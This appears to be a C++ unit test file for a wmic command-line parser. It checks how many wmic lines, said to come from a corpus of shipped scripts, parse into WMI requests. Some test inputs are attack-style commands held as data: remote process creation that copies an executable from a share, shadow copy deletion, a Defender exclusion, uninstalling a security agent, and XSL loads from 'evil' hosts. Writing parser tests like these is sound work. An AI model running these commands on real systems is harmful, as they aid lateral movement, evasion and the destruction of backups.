// wmic command lines, from the corpus of shipped scripts and from every
// quoting wmic is known to take, and the request each becomes.
#include <gtest/gtest.h>

#include <chrono>
#include <iterator>
#include <set>
#include <string>
#include <vector>

#include "cli/wmic/wmic_aliases.h"
#include "cli/wmic/wmic_grammar.h"
#include "cli/wmic/wmic_names.h"
#include "cli/wmic/wmic_query.h"

namespace {

const wchar_t* const kVerbNames[] = {L"list", L"get", L"call", L"set", L"delete", L"create"};
const wchar_t* const kAdverbNames[] = {L"", L" brief", L" full", L" instance", L" status", L" system",
                                       L" writeable"};
const wchar_t* const kFormatNames[] = {L"", L"table", L"list", L"csv", L"rawxml", L"xml", L"json"};
const wchar_t* const kHelpNames[] = {L"", L"general", L"alias", L"verb"};

// The request in one line, listing only what differs from a bare request.
std::wstring Summary(const WmicRequest& r) {
  if (r.problem.kind != WmicProblemKind::None) return L"error: " + r.problem.text;
  if (r.interactive) return L"interactive";
  std::wstring s;
  auto add = [&s](const std::wstring& part) { s += (s.empty() ? L"" : L" | ") + part; };
  const WmicGlobals& g = r.globals;
  const WmicGlobals defaults;
  if (g.namespaceGiven) add(L"ns:" + g.nameSpace);
  if (g.nodeGiven) add(L"node:" + g.nodes);
  if (g.userGiven) add(L"user:" + g.user);
  if (g.passwordGiven) add(L"password:" + g.password);
  if (g.destination.toFile) add((g.destination.append ? L"append:" : L"output:") + g.destination.path);
  if (!g.locale.empty()) add(L"locale:" + g.locale);
  if (g.failFastGiven) add(L"failfast:" + std::to_wstring(static_cast<int>(g.failFast)) + L"," +
                            std::to_wstring(g.failFastMilliseconds));
  if (g.impersonation != defaults.impersonation) add(L"implevel:" + std::to_wstring(static_cast<int>(g.impersonation)));
  if (g.authentication != defaults.authentication)
    add(L"authlevel:" + std::to_wstring(static_cast<int>(g.authentication)));
  if (g.privileges != defaults.privileges) add(L"privileges:off");
  if (g.trace != defaults.trace) add(L"trace:on");
  if (g.interactive != defaults.interactive) add(L"interactive:on");
  if (g.aggregate != defaults.aggregate) add(L"aggregate:off");
  const WmicTarget& t = r.target;
  if (t.kind == WmicTargetKind::Alias) add(L"alias:" + std::wstring(t.alias->name));
  if (t.kind == WmicTargetKind::Path) add(L"path:" + t.className);
  if (t.kind == WmicTargetKind::Class) add(L"class:" + t.className);
  if (t.keyGiven) add(L"key:" + t.keyValue);
  if (r.help != WmicHelp::None) {
    add(L"help:" + std::wstring(kHelpNames[static_cast<int>(r.help)]));
    return s;
  }
  std::wstring verb = kVerbNames[static_cast<int>(r.verb)];
  if (r.verb == WmicVerb::List) verb += kAdverbNames[static_cast<int>(r.listAdverb)];
  if (r.verb == WmicVerb::Call) verb += L" " + r.method;
  // Named values as [NAME=value], values by position as (value).
  for (const WmicValue& v : r.values) verb += v.name.empty() ? L" (" + v.text + L")" : L" [" + v.name + L"=" + v.text + L"]";
  add(verb);
  if (r.switches.format != WmicFormat::Default)
    add(L"format:" + std::wstring(kFormatNames[static_cast<int>(r.switches.format)]));
  if (r.switches.noInteractive) add(L"nointeractive");
  if (r.switches.everySeconds != 0) {
    add(L"every:" + std::to_wstring(r.switches.everySeconds) + L"," + std::to_wstring(r.switches.repeatCount));
  }
  const std::wstring wql = WmicQueryText(r);
  if (!wql.empty()) add(wql);
  return s;
}

struct Case {
  std::wstring line;
  std::wstring request;
};

void ExpectRequests(const std::vector<Case>& cases) {
  for (const Case& c : cases) EXPECT_EQ(Summary(ParseWmicCommandLine(c.line)), c.request) << c.line;
}

// Lines as scripts in the corpus run them (cmd has expanded its variables and
// kept the quotes; the program's own name as they wrote it).
TEST(WmicGrammar, CorpusLines) {
  ExpectRequests({
      {L"wmic logicaldisk get size,freespace,caption",
       L"alias:LOGICALDISK | get | SELECT size,freespace,caption FROM Win32_LogicalDisk"},
      {L"wmic qfe", L"alias:QFE | list | SELECT * FROM Win32_QuickFixEngineering"},
      {L"WMIC.EXE Alias /?", L"alias:ALIAS | help:alias"},
      {L"WMIC Path Win32_LocalTime Get Day,Hour,Minute,Month,Second,Year /Format:table",
       L"path:Win32_LocalTime | get | format:table | SELECT Day,Hour,Minute,Month,Second,Year FROM Win32_LocalTime"},
      {L"wmic path WIN32_NetworkAdapter where \"NetConnectionID='Wi-Fi'\" get NetConnectionStatus /value",
       L"path:WIN32_NetworkAdapter | get | format:list | SELECT NetConnectionStatus FROM WIN32_NetworkAdapter WHERE "
       L"NetConnectionID='Wi-Fi'"},
      {L"wmic memorychip get capacity, devicelocator, Manufacturer, memorytype",
       L"alias:MEMORYCHIP | get | SELECT capacity,devicelocator,Manufacturer,memorytype FROM Win32_PhysicalMemory"},
      {L"wmic path", L"error: Invalid class."},
      {L"wmic path SoftwareLicensingProduct where (ApplicationID='55c9' and PartialProductKey is not null) get ID "
       L"/VALUE\"\"",
       L"path:SoftwareLicensingProduct | get | format:list | SELECT ID FROM SoftwareLicensingProduct WHERE "
       L"(ApplicationID='55c9' and PartialProductKey is not null)"},
      {L"wmic path Win32_Volume where (DriveLetter is not NULL) get DriveLetter /value",
       L"path:Win32_Volume | get | format:list | SELECT DriveLetter FROM Win32_Volume WHERE (DriveLetter is not NULL)"},
      {L"wmic volume where DriveLetter='C:' get FileSystem /value",
       L"alias:VOLUME | get | format:list | SELECT FileSystem FROM Win32_Volume WHERE DriveLetter='C:'"},
      {L"wmic datafile where \"name='C:\\\\x\\\\a.dll'\" get Version /value",
       L"alias:DATAFILE | get | format:list | SELECT Version FROM CIM_DataFile WHERE name='C:\\\\x\\\\a.dll'"},
      {L"\"%SystemRoot%\\System32\\wbem\\wmic.exe\" cpu get Caption,Name",
       L"alias:CPU | get | SELECT Caption,Name FROM Win32_Processor"},
      {L"wmic process where (commandline like \"%kafka.Kafka%\" and not name=\"wmic.exe\") delete",
       L"alias:PROCESS | delete | SELECT * FROM Win32_Process WHERE (commandline like \"%kafka.Kafka%\" and not "
       L"name=\"wmic.exe\")"},
      {L"wmic /namespace:\\\\ROOT\\Microsoft\\Windows\\DesiredStateConfiguration class "
       L"MSFT_DSCLocalConfigurationManager call GetConfigurationStatus",
       L"ns:ROOT\\Microsoft\\Windows\\DesiredStateConfiguration | class:MSFT_DSCLocalConfigurationManager | call "
       L"GetConfigurationStatus"},
      {L"wmic /node:pc1 /user:dom\\adm /password:p@ss process call create \"cmd.exe /c copy \\\\srv\\c$\\x.exe "
       L"c:\\windows\\temp\"",
       L"node:pc1 | user:dom\\adm | password:p@ss | alias:PROCESS | call Create (cmd.exe /c copy \\\\srv\\c$\\x.exe "
       L"c:\\windows\\temp) | SELECT * FROM Win32_Process"},
      {L"wmic path SoftwareLicensingService where __CLASS='SoftwareLicensingService' call InstallProductKey "
       L"ProductKey=\"AAAAA-BBBBB\"",
       L"path:SoftwareLicensingService | call InstallProductKey [ProductKey=AAAAA-BBBBB] | SELECT * FROM "
       L"SoftwareLicensingService WHERE __CLASS='SoftwareLicensingService'"},
      {L"wmic path SoftwareLicensingService where Version='10' call InstallProductKey ProductKey=",
       L"path:SoftwareLicensingService | call InstallProductKey [ProductKey=] | SELECT * FROM "
       L"SoftwareLicensingService WHERE Version='10'"},
      {L"wmic path SoftwareLicensingProduct where \"ApplicationID='55c9' and PartialProductKey<>null\" Get "
       L"PartialProductKey /value",
       L"path:SoftwareLicensingProduct | get | format:list | SELECT PartialProductKey FROM SoftwareLicensingProduct "
       L"WHERE ApplicationID='55c9' and PartialProductKey<>null"},
      {L"WMIC.exe /Namespace:\\\\\\\\root\\\\SecurityCenter2 Path AntiVirusProduct Get displayName,productState",
       L"ns:root\\SecurityCenter2 | path:AntiVirusProduct | get | SELECT displayName,productState FROM "
       L"AntiVirusProduct"},
      {L"wmic /NameSpace:'\\\\root\\WMI' Path BatteryStatus get Charging",
       L"ns:root\\WMI | path:BatteryStatus | get | SELECT Charging FROM BatteryStatus"},
      {L"wmic volume get DriveLetter , Label", L"alias:VOLUME | get | SELECT DriveLetter,Label FROM Win32_Volume"},
      {L"wmic useraccount here \"name='me'\" set PasswordExpires=False", L"error: Invalid alias verb."},
      {L"wmic csproduct '", L"error: Invalid alias verb."},
      {L"WMIC Process Enumeration",
       L"alias:PROCESS | key:Enumeration | list | SELECT * FROM Win32_Process WHERE ProcessId='Enumeration'"},
      {L"wmic os get * /format:csv", L"alias:OS | get | format:csv | SELECT * FROM Win32_OperatingSystem"},
      {L"wmic shadowcopy call create Volume='C:\\'",
       L"alias:SHADOWCOPY | call create [Volume=C:\\] | SELECT * FROM Win32_ShadowCopy"},
      {L"wmic /node:\"target\" shadowcopy list brief",
       L"node:target | alias:SHADOWCOPY | list brief | SELECT "
       L"ClientAccessible,Count,DeviceObject,ID,InstallDate,OriginatingMachine,VolumeName FROM Win32_ShadowCopy"},
      {L"wmic useraccount get /ALL /format:csv",
       L"alias:USERACCOUNT | get | format:csv | SELECT * FROM Win32_UserAccount"},
      {L"wmic /node:\"pc\" service where (caption like \"%sql%\")",
       L"node:pc | alias:SERVICE | list | SELECT * FROM Win32_Service WHERE (caption like \"%sql%\")"},
      {L"wmic /node:\"pc\" product where \"name like 'Java%%'\" call uninstall",
       L"node:pc | alias:PRODUCT | call Uninstall | SELECT * FROM Win32_Product WHERE name like 'Java%%'"},
      {L"wmic product where \"Name like '%Wazuh%'\" call uninstall /nointeractive",
       L"alias:PRODUCT | call Uninstall | nointeractive | SELECT * FROM Win32_Product WHERE Name like '%Wazuh%'"},
      {L"wmic process list brief",
       L"alias:PROCESS | list brief | SELECT HandleCount,Name,Priority,ProcessId,ThreadCount,WorkingSetSize FROM "
       L"Win32_Process"},
      {L"wmic.exe os get /FORMAT:`", L"error: Invalid XSL format (or) file name."},
      {L"wmic.exe process get brief /format:\"\\\\evil\\share\\x.xsl\"", L"error: Invalid XSL format (or) file name."},
      {L"wmic os get /format:\"https://evil/csv.xsl\"", L"error: Invalid XSL format (or) file name."},
      {L"wmic computersystem get model /format:RAWXML",
       L"alias:COMPUTERSYSTEM | get | format:rawxml | SELECT model FROM Win32_ComputerSystem"},
      {L"wmic process where (ParentProcessId=4) get Caption, ProcessId /format:rawxml.xsl",
       L"alias:PROCESS | get | format:rawxml | SELECT Caption,ProcessId FROM Win32_Process WHERE (ParentProcessId=4)"},
      {L"wmic os get Caption /Format:XML", L"alias:OS | get | format:xml | SELECT Caption FROM Win32_OperatingSystem"},
      {L"wmic /node: \"pc1\" process where name='\"regsvr32.exe\"' call terminate",
       L"node:pc1 | alias:PROCESS | call terminate | SELECT * FROM Win32_Process WHERE name='\"regsvr32.exe\"'"},
      {L"wmic.exe shadowcopy delete", L"alias:SHADOWCOPY | delete | SELECT * FROM Win32_ShadowCopy"},
      {L"wmic 	csproduct 	get UUID", L"alias:CSPRODUCT | get | SELECT UUID FROM Win32_ComputerSystemProduct"},
      {L"wmic.exe /Namespace:\\\\root\\Microsoft\\Windows\\Defender class MSFT_MpPreference call Add "
       L"ExclusionPath=\\\"ATOMICREDTEAM\\\"",
       L"ns:root\\Microsoft\\Windows\\Defender | class:MSFT_MpPreference | call Add [ExclusionPath=ATOMICREDTEAM]"},
      {L"wmic /locale:ms_409 os get Caption",
       L"locale:ms_409 | alias:OS | get | SELECT Caption FROM Win32_OperatingSystem"},
      {L"wmic process where 'Processid=4242' get Commandline",
       L"alias:PROCESS | get | SELECT Commandline FROM Win32_Process WHERE Processid=4242"},
      {L"c:wmic useraccount where (sid like \"s-1-5-21-%-501\") get Disabled -", L"error: Invalid GET Expression."},
      {L"wmic.exe$'", L"interactive"},
      {L"wmic logicaldisk where \"DeviceID='C:'\" get FreeSpace /format:value",
       L"alias:LOGICALDISK | get | format:list | SELECT FreeSpace FROM Win32_LogicalDisk WHERE DeviceID='C:'"},
      {L"wmic PROCESS 4242 get workingsetsize,usermodetime",
       L"alias:PROCESS | key:4242 | get | SELECT workingsetsize,usermodetime FROM Win32_Process WHERE ProcessId='4242'"},
      {L"wmic path Win32_PerfFormattedData_PerfProc_Process WHERE IDProcess=4242 get PercentProcessorTime, WorkingSet",
       L"path:Win32_PerfFormattedData_PerfProc_Process | get | SELECT PercentProcessorTime,WorkingSet FROM "
       L"Win32_PerfFormattedData_PerfProc_Process WHERE IDProcess=4242"},
      {L"wmic diskdrive list /format:csv", L"alias:DISKDRIVE | list | format:csv | SELECT * FROM Win32_DiskDrive"},
      {L"wmic path Win32_DiskDriveToDiskPartition get * /format:csv",
       L"path:Win32_DiskDriveToDiskPartition | get | format:csv | SELECT * FROM Win32_DiskDriveToDiskPartition"},
      {L"wmic /namespace:\\\\root\\default path SystemRestore call CreateRestorePoint \"Before update\", 100, 7",
       L"ns:root\\default | path:SystemRestore | call CreateRestorePoint (Before update) (100) (7) | SELECT * FROM "
       L"SystemRestore"},
      {L"wmic computersystem where name=\"PC\" rename name=\"NEW\"",
       L"alias:COMPUTERSYSTEM | call rename [name=NEW] | SELECT * FROM Win32_ComputerSystem WHERE name=\"PC\""},
      {L"wmic useraccount where name=\"x\" set PasswordExpires=FALSE",
       L"alias:USERACCOUNT | set [PasswordExpires=FALSE] | SELECT * FROM Win32_UserAccount WHERE name=\"x\""},
      {L"wmic /namespace:\\\\root\\subscription path __EventFilter where Name=\"x\" delete",
       L"ns:root\\subscription | path:__EventFilter | delete | SELECT * FROM __EventFilter WHERE Name=\"x\""},
      {L"wmic environment create name=\"TEMP\"; variablevalue=\"NEW\",username=\"<system>\"",
       L"alias:ENVIRONMENT | create [name=TEMP] [variablevalue=NEW] [username=<system>] | SELECT * FROM "
       L"Win32_Environment"},
      {L"wmic shadowcopy call create Volume=\"C:\\\"",
       L"alias:SHADOWCOPY | call create [Volume=C:\\] | SELECT * FROM Win32_ShadowCopy"},
      {L"wmic datafile \"c:\\\\windows\\\\win.ini\" get Version",
       L"alias:DATAFILE | key:c:\\\\windows\\\\win.ini | get | SELECT Version FROM CIM_DataFile WHERE "
       L"Name='c:\\\\windows\\\\win.ini'"},
  });
}

// Every quoting of where clauses and values wmic is known to take, and the
// lines programs build from argument lists.
TEST(WmicGrammar, Quoting) {
  ExpectRequests({
      {L"wmic process where name=\"calc.exe\" get ProcessId",
       L"alias:PROCESS | get | SELECT ProcessId FROM Win32_Process WHERE name=\"calc.exe\""},
      {L"wmic process where \"name='postgres.exe' or name='initdb.exe'\" get ProcessId",
       L"alias:PROCESS | get | SELECT ProcessId FROM Win32_Process WHERE name='postgres.exe' or name='initdb.exe'"},
      {L"wmic process where (ProcessId = 1040) get Name",
       L"alias:PROCESS | get | SELECT Name FROM Win32_Process WHERE (ProcessId = 1040)"},
      {L"wmic process where (name ='Scchost.exe') get Name",
       L"alias:PROCESS | get | SELECT Name FROM Win32_Process WHERE (name ='Scchost.exe')"},
      {L"wmic datafile where name=\"C:\\\\Program Files\\\\a.exe\" get Version",
       L"alias:DATAFILE | get | SELECT Version FROM CIM_DataFile WHERE name=\"C:\\\\Program Files\\\\a.exe\""},
      {L"wmic process where \"commandline like '%uvicorn%'\" delete",
       L"alias:PROCESS | delete | SELECT * FROM Win32_Process WHERE commandline like '%uvicorn%'"},
      // With spaces and no quotes, the clause runs to the verb.
      {L"wmic process where name = 'x.exe' get ProcessId",
       L"alias:PROCESS | get | SELECT ProcessId FROM Win32_Process WHERE name = 'x.exe'"},
      // A quoted "get" is a value of the clause, not the verb.
      {L"wmic process where name = \"get\" get ProcessId",
       L"alias:PROCESS | get | SELECT ProcessId FROM Win32_Process WHERE name = \"get\""},
      {L"wmic process where (name = \"get\") get ProcessId",
       L"alias:PROCESS | get | SELECT ProcessId FROM Win32_Process WHERE (name = \"get\")"},
      {L"wmic process where (name='a' and (x=1 or y=2)) get Name",
       L"alias:PROCESS | get | SELECT Name FROM Win32_Process WHERE (name='a' and (x=1 or y=2))"},
      {L"wmic process where (name=')' ) get Name",
       L"alias:PROCESS | get | SELECT Name FROM Win32_Process WHERE (name=')' )"},
      // Lines built for the C runtime (Python's list2cmdline, Go's
      // exec.Command) reach WQL as typed: \" is a backslash and a quote.
      {L"wmic process where name=\\\"notepad.exe\\\" get ProcessId",
       L"alias:PROCESS | get | SELECT ProcessId FROM Win32_Process WHERE name=\\\"notepad.exe\\\""},
      {L"wmic process where \"name=\\\"a b.exe\\\"\" get ProcessId",
       L"alias:PROCESS | get | SELECT ProcessId FROM Win32_Process WHERE \"name=\\\"a b.exe\\\"\""},
      {L"wmic process where \"name='a\\\\b'\" get ProcessId",
       L"alias:PROCESS | get | SELECT ProcessId FROM Win32_Process WHERE name='a\\\\b'"},
      {L"wmic fsdir where name=\"c:\\\\temp\\\\\" get Name",
       L"alias:FSDIR | get | SELECT Name FROM Win32_Directory WHERE name=\"c:\\\\temp\\\\\""},
      {L"wmic process where \"name='x'\"\"\" get Name",
       L"alias:PROCESS | get | SELECT Name FROM Win32_Process WHERE \"name='x'\"\"\""},
      {L"wmic process where \"\" get Name", L"error: Invalid WHERE clause."},
      {L"wmic process where get Name", L"error: Invalid WHERE clause."},
      {L"wmic process where", L"error: Invalid WHERE clause."},
      // A key value goes into the key WHERE as typed, quotes stripped.
      {L"wmic service \"it's\" get Name",
       L"alias:SERVICE | key:it's | get | SELECT Name FROM Win32_Service WHERE Name='it's'"},
      {L"wmic service \"where\" get Name",
       L"alias:SERVICE | key:where | get | SELECT Name FROM Win32_Service WHERE Name='where'"},
      {L"wmic datafile C:\\x.txt get Name",
       L"alias:DATAFILE | key:C:\\x.txt | get | SELECT Name FROM CIM_DataFile WHERE Name='C:\\x.txt'"},
      {L"wmic process where \"name='caf\u00e9 ^%'\" get Name",
       L"alias:PROCESS | get | SELECT Name FROM Win32_Process WHERE name='caf\u00e9 ^%'"},
      {L"wmic process where \"name='a", L"alias:PROCESS | list | SELECT * FROM Win32_Process WHERE \"name='a"},
      {L"wmic x call m a=1 , b='2 3',\"c\"", L"error: x - Alias not found."},
      {L"wmic path StdRegProv call GetStringValue &H80000002,\"SOFTWARE\\x\",'v'",
       L"path:StdRegProv | call GetStringValue (&H80000002) (SOFTWARE\\x) (v) | SELECT * FROM StdRegProv"},
      {L"wmic path StdRegProv call SetDWORDValue hDefKey=&H80000001 sSubKeyName=\"a b\" , uValue=3",
       L"path:StdRegProv | call SetDWORDValue [hDefKey=&H80000001] [sSubKeyName=a b] [uValue=3] | SELECT * FROM "
       L"StdRegProv"},
      {L"wmic process call create notepad.exe C:\\a=b.txt",
       L"alias:PROCESS | call Create (notepad.exe) (C:\\a=b.txt) | SELECT * FROM Win32_Process"},
      // A backslash never escapes a quote, inside a quoted value either.
      {L"wmic process call create \"\\\"C:\\a b\\x.exe\\\"\"",
       L"alias:PROCESS | call Create (\\C:\\a) (b\\x.exe\\) | SELECT * FROM Win32_Process"},
      // The methods PROCESS and PRODUCT define as their own verbs take their
      // spelling; any other keeps the case it was typed in.
      // \"value\" loses the backslash before each of its quotes.
      {L"wmic class MSFT_MpPreference call Add ExclusionPath=\\\"\\Temp\\\\\"",
       L"class:MSFT_MpPreference | call Add [ExclusionPath=\\Temp\\]"},
      {L"wmic class X call Add P=\\\"a b\\\",\\\"\\\"", L"class:X | call Add [P=a b] ()"},
      {L"wmic process call CREATE x", L"alias:PROCESS | call Create (x) | SELECT * FROM Win32_Process"},
      {L"wmic path Win32_Process call create x", L"path:Win32_Process | call create (x) | SELECT * FROM Win32_Process"},
      {L"wmic process call create \"cmd /c set x=1\"",
       L"alias:PROCESS | call Create (cmd /c set x=1) | SELECT * FROM Win32_Process"},
      {L"wmic x call", L"error: x - Alias not found."},
      {L"wmic process call \"create\"", L"alias:PROCESS | call Create | SELECT * FROM Win32_Process"},
      {L"wmic process call \"cre ate\"", L"error: Invalid alias verb."},
      {L"wmic process call", L"alias:PROCESS | help:verb"},
      {L"wmic process call /?", L"alias:PROCESS | help:verb"},
      {L"wmic process get /?", L"alias:PROCESS | help:verb"},
      {L"wmic /?", L"help:general"},
      {L"wmic /?:full", L"help:general"},
      {L"wmic", L"interactive"},
      {L"\"C:\\Program Files\\x\\wmic.exe\"  ", L"interactive"},
      {L"wmic /node:pc1", L"interactive"},
  });
}

TEST(WmicGrammar, GlobalSwitches) {
  ExpectRequests({
      {L"wmic /NAMESPACE:\\\\root\\cimv2\\TerminalServices path Win32_TSGeneralSetting get TerminalName",
       L"ns:root\\cimv2\\TerminalServices | path:Win32_TSGeneralSetting | get | SELECT TerminalName FROM "
       L"Win32_TSGeneralSetting"},
      {L"wmic /namespace:wmi path x get", L"ns:root\\cimv2\\wmi | path:x | get | SELECT * FROM x"},
      {L"wmic /namespace:\\\\.\\root\\wmi path x get", L"ns:root\\wmi | path:x | get | SELECT * FROM x"},
      {L"wmic /namespace:\"\" os", L"error: Invalid Global Switch."},
      {L"wmic /node:\"a\",\"b\" os", L"node:a,b | alias:OS | list | SELECT * FROM Win32_OperatingSystem"},
      {L"wmic /node:@nodes.txt os", L"node:@nodes.txt | alias:OS | list | SELECT * FROM Win32_OperatingSystem"},
      {L"wmic /NODE: \"pc 1\" os", L"node:pc 1 | alias:OS | list | SELECT * FROM Win32_OperatingSystem"},
      {L"wmic /user:adm /password:\"\" os", L"user:adm | password: | alias:OS | list | SELECT * FROM Win32_OperatingSystem"},
      {L"wmic /output:c:\\out.txt os", L"output:c:\\out.txt | alias:OS | list | SELECT * FROM Win32_OperatingSystem"},
      {L"wmic /output:STDOUT os", L"alias:OS | list | SELECT * FROM Win32_OperatingSystem"},
      {L"wmic /append:\"log file.txt\" os",
       L"append:log file.txt | alias:OS | list | SELECT * FROM Win32_OperatingSystem"},
      {L"wmic /failfast:on os", L"failfast:1,0 | alias:OS | list | SELECT * FROM Win32_OperatingSystem"},
      {L"wmic /FailFast:1000 os", L"failfast:1,1000 | alias:OS | list | SELECT * FROM Win32_OperatingSystem"},
      {L"wmic /failfast:999999999 os",
       L"failfast:1,999999999 | alias:OS | list | SELECT * FROM Win32_OperatingSystem"},
      {L"wmic /failfast:1000000000 os", L"error: Invalid Global Switch."},
      {L"wmic /failfast:0 os", L"error: Invalid Global Switch."},
      {L"wmic /failfast:1x os", L"error: Invalid Global Switch."},
      {L"wmic /implevel:Delegate /authlevel:Pkt os",
       L"implevel:3 | authlevel:4 | alias:OS | list | SELECT * FROM Win32_OperatingSystem"},
      {L"wmic /implevel:everything os", L"error: Invalid Global Switch."},
      {L"wmic /privileges:disable /trace:ON /interactive:on /aggregate:off os",
       L"privileges:off | trace:on | interactive:on | aggregate:off | alias:OS | list | SELECT * FROM "
       L"Win32_OperatingSystem"},
      {L"wmic /trace os", L"error: Invalid Global Switch."},
      {L"wmic /role:\\\\root\\cli os", L"alias:OS | list | SELECT * FROM Win32_OperatingSystem"},
      {L"wmic /role:\\\\root os", L"error: /role: other than \\\\root\\cli is not supported."},
      {L"wmic /record:x.xml os", L"error: /record: is not supported."},
      {L"wmic /authority:\"kerberos:x\" os", L"error: /authority: is not supported."},
      {L"wmic /output:clipboard os", L"error: /output:CLIPBOARD is not supported."},
      {L"wmic /nosuch:1 os", L"error: Invalid Global Switch."},
      {L"wmic /value os", L"error: Invalid Global Switch."},
  });
}

TEST(WmicGrammar, TargetsVerbsAndVerbSwitches) {
  ExpectRequests({
      {L"wmic PrOcEsS get NAME", L"alias:PROCESS | get | SELECT NAME FROM Win32_Process"},
      {L"wmic rdtoggle get AllowTSConnections",
       L"alias:RDTOGGLE | get | SELECT AllowTSConnections FROM Win32_TerminalServiceSetting"},
      {L"wmic fan get", L"error: fan - Alias not found."},
      {L"wmic os 1 get", L"error: Invalid alias verb."},
      {L"wmic os reboot", L"alias:OS | call reboot | SELECT * FROM Win32_OperatingSystem"},
      {L"wmic class Win32_Process get", L"error: CLASS supports only the CALL verb."},
      {L"wmic class Win32_Process", L"error: CLASS supports only the CALL verb."},
      {L"wmic class Win32_Process where x=1 call m", L"error: Invalid alias verb."},
      {L"wmic path \"a b\" get", L"error: Invalid class."},
      {L"wmic process assoc", L"error: The verb assoc is not supported."},
      {L"wmic process get Name where name='x'", L"error: Invalid GET Expression."},
      {L"wmic process get a,,b", L"error: Invalid GET Expression."},
      {L"wmic process get a,", L"error: Invalid GET Expression."},
      {L"wmic process get ,", L"error: Invalid GET Expression."},
      {L"wmic process get *,Name", L"error: Invalid GET Expression."},
      {L"wmic process get \"Name,ProcessId\"", L"alias:PROCESS | get | SELECT Name,ProcessId FROM Win32_Process"},
      {L"wmic process get Name ,ProcessId ,Caption",
       L"alias:PROCESS | get | SELECT Name,ProcessId,Caption FROM Win32_Process"},
      {L"wmic process get Name from x", L"error: Invalid GET Expression."},
      {L"wmic process list full", L"alias:PROCESS | list full | SELECT * FROM Win32_Process"},
      {L"wmic process list INSTANCE", L"alias:PROCESS | list instance | SELECT * FROM Win32_Process"},
      {L"wmic process list status", L"error: LIST status is not supported."},
      {L"wmic process list writeable", L"error: LIST writeable is not supported."},
      {L"wmic process list sideways", L"error: Invalid Verb Switch."},
      {L"wmic process list brief extra", L"error: Invalid Verb Switch."},
      {L"wmic process delete now", L"error: Invalid Verb Switch."},
      {L"wmic process /format:list", L"alias:PROCESS | list | format:list | SELECT * FROM Win32_Process"},
      {L"wmic process /?", L"alias:PROCESS | help:alias"},
      {L"wmic os get /format:\"%WINDIR%\\System32\\wbem\\en-US\\csv\"",
       L"alias:OS | get | format:csv | SELECT * FROM Win32_OperatingSystem"},
      {L"wmic os get /format:C:\\x\\CSV.XSL", L"alias:OS | get | format:csv | SELECT * FROM Win32_OperatingSystem"},
      {L"wmic os get /format: textvaluelist", L"alias:OS | get | format:list | SELECT * FROM Win32_OperatingSystem"},
      {L"wmic os get /format:JSON", L"alias:OS | get | format:json | SELECT * FROM Win32_OperatingSystem"},
      {L"wmic os get /format:htable", L"error: Invalid XSL format (or) file name."},
      {L"wmic os get /format:hform", L"error: Invalid XSL format (or) file name."},
      {L"wmic os get /format:.xsl", L"error: Invalid XSL format (or) file name."},
      {L"wmic os get /format", L"error: Invalid XSL format (or) file name."},
      {L"wmic os get /value:x", L"error: Invalid Verb Switch."},
      {L"wmic os get /bogus", L"error: Invalid Verb Switch."},
      {L"wmic cpu get loadpercentage /every:2 /repeat:5",
       L"alias:CPU | get | every:2,5 | SELECT loadpercentage FROM Win32_Processor"},
      {L"wmic os get Caption /Repeat:999999999 /Every:999999999",
       L"alias:OS | get | every:999999999,999999999 | SELECT Caption FROM Win32_OperatingSystem"},
      {L"wmic os get /translate:NoComma", L"error: /translate: is not supported."},
      {L"wmic os get /repeat:2", L"error: Invalid Verb Switch."},
      {L"wmic os get /all /value", L"alias:OS | get | format:list | SELECT * FROM Win32_OperatingSystem"},
      {L"wmic os set", L"error: Invalid SET Expression."},
      {L"wmic os set 5", L"error: Invalid SET Expression."},
      {L"wmic os set a=1 2", L"error: Invalid SET Expression."},
      {L"wmic environment create x", L"error: Invalid CREATE Expression."},
      {L"wmic environment SET NAME=\"TEMP\", VARIABLEVALUE=\"NEW\"",
       L"alias:ENVIRONMENT | set [NAME=TEMP] [VARIABLEVALUE=NEW] | SELECT * FROM Win32_Environment"},
  });
}

// The key WHEREs and brief columns are data: each is checked for the shape
// WQL needs, and the ones wmic's own output shows are pinned.
TEST(WmicGrammar, AliasTable) {
  std::set<std::wstring> names;
  size_t count = 0;
  for (const WmicAlias& alias : AllWmicAliases()) {
    ++count;
    EXPECT_TRUE(names.insert(std::wstring(alias.name)).second) << std::wstring(alias.name);
    EXPECT_TRUE(IsPlainName(alias.className)) << std::wstring(alias.name);
    EXPECT_FALSE(alias.nameSpace.empty()) << std::wstring(alias.name);
    EXPECT_EQ(FindWmicAlias(alias.name), &alias);
    if (!alias.keyWhere.empty()) {
      const size_t hash = alias.keyWhere.find(L"='#'");
      EXPECT_NE(hash, std::wstring_view::npos) << std::wstring(alias.name);
      EXPECT_TRUE(IsPlainName(alias.keyWhere.substr(0, hash))) << std::wstring(alias.name);
      EXPECT_EQ(alias.keyWhere.size(), hash + 4) << std::wstring(alias.name);
    }
    size_t from = 0;
    while (true) {
      const size_t comma = alias.briefColumns.find(L',', from);
      EXPECT_TRUE(IsPlainName(alias.briefColumns.substr(from, comma - from))) << std::wstring(alias.name);
      if (comma == std::wstring_view::npos) break;
      from = comma + 1;
    }
  }
  EXPECT_EQ(count, 81u);
  EXPECT_EQ(FindWmicAlias(L"nteventlog")->briefColumns, L"FileSize,LogfileName,Name,NumberOfRecords");
  EXPECT_EQ(FindWmicAlias(L"UserAccount")->briefColumns, L"AccountType,Caption,Domain,FullName,Name,SID");
  EXPECT_EQ(FindWmicAlias(L"service")->briefColumns, L"ExitCode,Name,ProcessId,StartMode,State,Status");
  EXPECT_EQ(FindWmicAlias(L"service")->keyWhere, L"Name='#'");
  EXPECT_EQ(FindWmicAlias(L"rdnic")->nameSpace, L"root\\cimv2\\TerminalServices");
  EXPECT_EQ(FindWmicAlias(L"alias")->nameSpace, L"root\\cli");
  EXPECT_EQ(FindWmicAlias(L"processes"), nullptr);
  EXPECT_EQ(FindWmicAlias(L""), nullptr);

  // The alias's namespace wins over /namespace:, which is for PATH and CLASS.
  EXPECT_EQ(WmicNamespace(ParseWmicCommandLine(L"wmic /namespace:\\\\root\\wmi rdtoggle get")),
            L"root\\cimv2\\TerminalServices");
  EXPECT_EQ(WmicNamespace(ParseWmicCommandLine(L"wmic /namespace:\\\\root\\wmi path x get")), L"root\\wmi");
  EXPECT_EQ(WmicNamespace(ParseWmicCommandLine(L"wmic path x get")), L"root\\cimv2");
}

// Random lines of the grammar's own words, quotes and switches: each gives
// a request or a problem, quickly, and never reads outside the line.
TEST(WmicGrammar, FuzzedLinesEndInARequestOrAProblem) {
  const wchar_t* const pieces[] = {
      L"process", L"os", L"path", L"class", L"Win32_X", L"where", L"get", L"list", L"brief", L"call", L"set",
      L"delete", L"create", L"assoc", L"/node:", L"/node:a,b", L"/namespace:\\\\root", L"/format:csv",
